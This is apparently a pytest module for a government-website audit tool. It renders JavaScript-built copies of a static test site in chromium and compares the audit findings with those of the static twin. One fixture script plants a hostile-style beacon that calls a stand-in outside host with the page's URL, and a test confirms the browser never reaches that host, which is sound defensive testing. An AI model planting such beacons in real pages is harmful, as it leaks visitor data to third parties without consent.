"""Pages whose content only a browser shows (issue 21, rendering), end to end in Debian's chromium against their
static twin.

The bundled clean-gkmlpt site is the twin. Its JavaScript copy builds the homepage footer (网站标识码, ICP备案,
公安备案, 党政机关标识, 找错) from a JSON API, the 工作动态 column as an application root (`<div id="app">`) from
another, and the 通知公告 list with XMLHttpRequest into an empty `<ul class="list">`: nothing the static fragment
resolver can read. Rendered only where needed, the audit gives exactly the twin's findings, plus the advice
GUIDE-13 that search engines and assistive tools may not see the content. A copy whose footer API is gone still
has no footer (GUIDE-05). The browser never fetches anything outside the site.
"""
from __future__ import annotations

import json
import os
import shutil
import socket
import sqlite3
from pathlib import Path

import pytest
from lxml import html as lxml_html

from fixtures.server import serve
from tests.conftest import AS_OF, gkaudit

TWIN = Path(__file__).resolve().parent.parent / "fixtures" / "sites" / "clean-gkmlpt"
FOOTER_START, FOOTER_END = '<div class="footer">', "</body>"
CHROMIUM = Path("/usr/bin/chromium")
ADVICE = "GUIDE-13"

if not CHROMIUM.exists() and os.environ.get("CI") != "true":
    pytest.skip("chromium 未安装（make install 会安装）", allow_module_level=True)

FOOTER_SCRIPT = """<div id="footer"></div>
<script>
fetch('/api/site.json').then(function (r) { return r.json(); }).then(function (d) {
  document.getElementById('footer').innerHTML = d.footer;
  var img = new Image(); img.src = 'http://OUTSIDE/beacon.gif';
  fetch('http://OUTSIDE/track?u=' + location.href).catch(function () {});
});
</script>
"""
APP_SCRIPT = """<div id="app"></div>
<script src="/js/app.js"></script>
"""
APP_JS = """var x = new XMLHttpRequest();
x.open('GET', '/api/gzdt.json');
x.onload = function () { document.getElementById('app').innerHTML = JSON.parse(x.responseText).body; };
x.send();
"""
LIST_SCRIPT = """<ul class="list"></ul>
<script>
$ = null;
var x = new XMLHttpRequest();
x.open('GET', '/api/tzgg.json');
x.onload = function () {
  var ul = document.querySelector('ul.list');
  JSON.parse(x.responseText).items.forEach(function (it) {
    var li = document.createElement('li'), a = document.createElement('a'), s = document.createElement('span');
    a.href = it.url; a.target = '_blank'; a.title = it.title; a.textContent = it.title; s.textContent = it.date;
    li.appendChild(a); li.appendChild(s); ul.appendChild(li);
  });
};
x.send();
</script>
"""


def _write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def scripted_copy(sites: Path, name: str, address: str, outside: str, footer_api: bool = True) -> None:
    """A copy of the twin whose homepage footer, 工作动态 column and 通知公告 list come from JSON APIs."""
    site = sites / name
    shutil.copytree(TWIN, site)
    (site / "site.yaml").write_text((TWIN / "site.yaml").read_text(encoding="utf-8")
                                    .replace("id: clean-gkmlpt", f"id: {name}")
                                    .replace("address: 127.0.0.5", f"address: {address}"), encoding="utf-8")
    root = site / "root"
    index = root / "index.html"
    page = index.read_text(encoding="utf-8")
    start, end = page.index(FOOTER_START), page.index(FOOTER_END)
    if footer_api:
        _write(root / "api" / "site.json", json.dumps({"footer": page[start:end]}, ensure_ascii=False))
    _write(index, page[:start] + FOOTER_SCRIPT.replace("OUTSIDE", outside) + page[end:])

    column = root / "xwzx" / "gzdt" / "index.html"
    page = column.read_text(encoding="utf-8")
    start, end = page.index("<body>") + len("<body>"), page.index("</body>")
    _write(root / "api" / "gzdt.json", json.dumps({"body": page[start:end]}, ensure_ascii=False))
    _write(root / "js" / "app.js", APP_JS)
    _write(column, page[:start] + APP_SCRIPT + page[end:])

    column = root / "xwzx" / "tzgg" / "index.html"
    page = column.read_text(encoding="utf-8")
    start = page.index('<ul class="list">')
    end = page.index("</ul>", start) + len("</ul>")
    rows = lxml_html.fragment_fromstring(page[start:end]).findall("li")
    items = [{"title": li.find("a").get("title"), "url": li.find("a").get("href"), "date": li.find("span").text}
             for li in rows]
    _write(root / "api" / "tzgg.json", json.dumps({"items": items}, ensure_ascii=False))
    _write(column, page[:start] + LIST_SCRIPT + page[end:])


@pytest.fixture(scope="module")
def audited(tmp_path_factory):
    work = tmp_path_factory.mktemp("render")
    sites = work / "sites"
    shutil.copytree(TWIN, sites / "clean-gkmlpt")
    outside = socket.socket()  # another host the hostile page calls: it must never be asked
    outside.bind(("127.0.0.143", 0))
    outside.listen(8)
    outside.setblocking(False)
    address = "127.0.0.143:%d" % outside.getsockname()[1]
    scripted_copy(sites, "js-site", "127.0.0.141", address)
    scripted_copy(sites, "js-nofooter", "127.0.0.142", address, footer_api=False)
    with serve(sites, access_log=True) as server, outside:
        proc = gkaudit("audit", "--sites", server.sites_file, "--as-of", AS_OF, "--out", work / "out",
                       "--db", f"sqlite:///{work / 'gk.db'}", "--delay", "0", "--quiet", timeout=600)
        urls = server.urls
        log = server.requests()
        try:
            outside.accept()
            called = True
        except BlockingIOError:
            called = False
    assert proc.returncode in (0, 1), proc.stderr
    data = json.loads((work / "out" / "findings.json").read_text(encoding="utf-8"))
    by_site: dict[str, set] = {}
    for f in data["findings"]:
        by_site.setdefault(f["site"], set()).add((f["rule"], f["kind"], f["url"].replace(urls[f["site"]], "/")))
    return by_site, data, urls, work / "gk.db", (log, called)


def test_a_site_built_by_scripts_gives_the_findings_of_its_static_twin(audited):
    by_site, *_ = audited
    assert {f for f in by_site["js-site"] if f[0] != ADVICE} == by_site.get("clean-gkmlpt", set())


def test_content_that_appears_only_when_rendered_is_advice(audited):
    by_site, data, *_ = audited
    assert {f[2] for f in by_site["js-site"] if f[0] == ADVICE} == {"/", "/xwzx/gzdt/index.html",
                                                                  "/xwzx/tzgg/index.html"}
    assert not any(f[0] == ADVICE for f in by_site.get("clean-gkmlpt", set()))
    advice = [f for f in data["findings"] if f["rule"] == ADVICE]
    assert all(f["severity"] == "advice" for f in advice)


def test_only_the_pages_that_need_it_are_rendered(audited):
    _, _, urls, db, _ = audited
    with sqlite3.connect(db) as conn:
        rows = conn.execute("SELECT site, url, extra FROM page WHERE extra LIKE '%\"rendered\"%'").fetchall()
    rendered = {(site, url.replace(urls[site], "/")): json.loads(extra)["rendered"] for site, url, extra in rows}
    assert {key for key in rendered} == {(s, p) for s in ("js-site", "js-nofooter")
                                         for p in ("/", "/xwzx/gzdt/index.html", "/xwzx/tzgg/index.html")}
    assert rendered[("js-site", "/")]["why"] == "footer"
    assert rendered[("js-site", "/xwzx/gzdt/index.html")]["why"] == "app-root"
    assert rendered[("js-site", "/xwzx/tzgg/index.html")]["why"] == "list"
    assert rendered[("js-nofooter", "/")]["added"] == []


def test_a_footer_api_that_is_gone_is_still_a_missing_footer(audited):
    by_site, *_ = audited
    assert ("GUIDE-05", "identifier-missing", "/") in by_site["js-nofooter"]


def test_the_browser_fetches_nothing_outside_the_site(audited):
    *_, (log, called) = audited
    assert ("GET", "/api/site.json", 200) in log  # the page's own API: asked by the browser
    assert not called
